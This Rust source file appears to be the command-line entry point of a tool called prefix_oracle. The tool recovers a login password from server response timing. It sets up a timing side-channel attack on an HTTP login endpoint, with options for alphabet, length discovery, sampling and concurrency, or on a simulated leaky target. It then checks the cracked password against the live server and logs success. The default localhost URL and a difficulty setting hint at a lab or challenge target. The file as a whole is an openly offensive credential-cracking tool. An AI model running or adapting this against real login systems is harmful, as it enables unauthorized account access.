use prefix_oracle::{
    report::write_run_summary, Attack, AttackConfig, AttackFailure, AttackReport, CrackMode, Guess,
    HttpOracle, Plan, SimulatedOracle, TargetConfig, TimingOracle,
};

use anyhow::{bail, Context, Result};
use clap::Parser;
use tracing::{info, warn};
use tracing_subscriber::EnvFilter;

use std::{path::PathBuf, time::Duration};

/// Recover a login secret from response timing.
#[derive(Parser, Debug)]
#[command(author, version, about, long_about = None)]
struct Cli {
    /// Target login URL
    #[arg(long, default_value = "http://127.0.0.1")]
    url: String,

    /// Username submitted with every guess
    #[arg(short, long)]
    username: Option<String>,

    /// Difficulty query parameter forwarded to the target
    #[arg(long)]
    difficulty: Option<u32>,

    /// JSON file with attack settings; flags override it
    #[arg(long)]
    config: Option<PathBuf>,

    /// Characters the secret may contain
    #[arg(long)]
    alphabet: Option<String>,

    #[arg(long)]
    min_length: Option<usize>,

    #[arg(long)]
    max_length: Option<usize>,

    /// Skip length discovery and assume this length
    #[arg(long, conflicts_with = "length_only")]
    length: Option<usize>,

    /// Only discover the length
    #[arg(long)]
    length_only: bool,

    /// Samples per length probe
    #[arg(long)]
    length_samples: Option<usize>,

    /// Measure every character fully instead of ranking first
    #[arg(long)]
    exhaustive: bool,

    /// Samples per character in exhaustive mode [default: 8]
    #[arg(long)]
    samples: Option<usize>,

    /// Samples per character in the ranking pre-pass [default: 2]
    #[arg(long)]
    prepass_samples: Option<usize>,

    /// Characters kept after the pre-pass [default: 3]
    #[arg(long)]
    survivors: Option<usize>,

    /// Samples per surviving character [default: 6]
    #[arg(long)]
    verify_samples: Option<usize>,

    /// Maximum attempts in flight
    #[arg(long)]
    max_in_flight: Option<usize>,

    /// Request timeout in seconds
    #[arg(long, default_value_t = 10)]
    timeout_secs: u64,

    /// Directory for run summaries
    #[arg(long, default_value = "attack_runs")]
    output_dir: PathBuf,

    /// Attack an in-process simulation of this secret instead of the URL
    #[arg(long)]
    simulate: Option<String>,
}

impl Cli {
    fn attack_config(&self) -> Result<AttackConfig> {
        let mut config = match &self.config {
            Some(path) => {
                let text = std::fs::read_to_string(path)
                    .with_context(|| format!("reading config file {}", path.display()))?;
                serde_json::from_str(&text)
                    .with_context(|| format!("parsing config file {}", path.display()))?
            }
            None => AttackConfig::default(),
        };

        if let Some(username) = &self.username {
            config.username = username.clone();
        }
        if let Some(alphabet) = &self.alphabet {
            config.alphabet = alphabet.clone();
        }
        if let Some(n) = self.min_length {
            config.min_length = n;
        }
        if let Some(n) = self.max_length {
            config.max_length = n;
        }
        if let Some(n) = self.length_samples {
            config.length_samples = n;
        }
        if let Some(n) = self.max_in_flight {
            config.max_in_flight = n;
        }
        config.mode = self.crack_mode(config.mode);

        if config.username.is_empty() {
            bail!("a username is required (--username or the config file)");
        }
        Ok(config)
    }

    /// Switch modes on `--exhaustive`, then apply whichever sample flags were given.
    fn crack_mode(&self, mode: CrackMode) -> CrackMode {
        let mode = match (self.exhaustive, mode) {
            (true, CrackMode::Ranking { .. }) => CrackMode::Exhaustive { samples: 8 },
            (_, mode) => mode,
        };
        match mode {
            CrackMode::Exhaustive { samples } => CrackMode::Exhaustive {
                samples: self.samples.unwrap_or(samples),
            },
            CrackMode::Ranking {
                prepass_samples,
                survivors,
                verify_samples,
            } => CrackMode::Ranking {
                prepass_samples: self.prepass_samples.unwrap_or(prepass_samples),
                survivors: self.survivors.unwrap_or(survivors),
                verify_samples: self.verify_samples.unwrap_or(verify_samples),
            },
        }
    }

    fn plan(&self) -> Plan {
        match (self.length_only, self.length) {
            (true, _) => Plan::LengthOnly,
            (false, Some(length)) => Plan::KnownLength(length),
            (false, None) => Plan::Full,
        }
    }
}

#[tokio::main]
async fn main() -> Result<()> {
    tracing_subscriber::fmt()
        .with_env_filter(
            EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info")),
        )
        .init();

    let cli = Cli::parse();
    let config = cli.attack_config()?;
    let plan = cli.plan();

    match &cli.simulate {
        Some(secret) => {
            let oracle = SimulatedOracle::leaky(secret, Duration::from_micros(200));
            let report = execute(oracle, config, plan, &cli).await?;
            if let Some(found) = report.secret() {
                info!(success = found == secret.as_str(), "simulated target checked");
            }
        }
        None => {
            let target = TargetConfig {
                url: cli.url.clone(),
                timeout: Duration::from_secs(cli.timeout_secs),
                difficulty: cli.difficulty,
            };
            let oracle = HttpOracle::new(target).context("building HTTP client")?;
            let username = config.username.clone();
            let report = execute(oracle.clone(), config, plan, &cli).await?;
            if let Some(found) = report.secret() {
                let guess = Guess::new(username, found);
                match oracle.verify(&guess).await {
                    Ok(true) => info!(password = found, "SUCCESS, target accepted the password"),
                    Ok(false) => warn!(password = found, "target rejected the recovered password"),
                    Err(e) => warn!(error = %e, "could not verify the recovered password"),
                }
            }
        }
    }
    Ok(())
}

async fn execute<O: TimingOracle>(
    oracle: O,
    config: AttackConfig,
    plan: Plan,
    cli: &Cli,
) -> Result<AttackReport> {
    let attack = Attack::new(oracle, config)?;
    let (report, failure) = match attack.run(plan).await {
        Ok(report) => (report, None),
        Err(AttackFailure { error, report }) => (report, Some(error)),
    };

    let (txt, json) = write_run_summary(&cli.output_dir, &report)?;
    info!(txt = %txt.display(), json = %json.display(), "run summary saved");
    if let (Plan::LengthOnly, Some(length)) = (plan, report.length) {
        info!(length, "password length found; rerun with --length {length} to crack it");
    }

    match failure {
        Some(error) => Err(error).context(format!(
            "attack aborted after recovering '{}'",
            report.recovered
        )),
        None => Ok(report),
    }
}
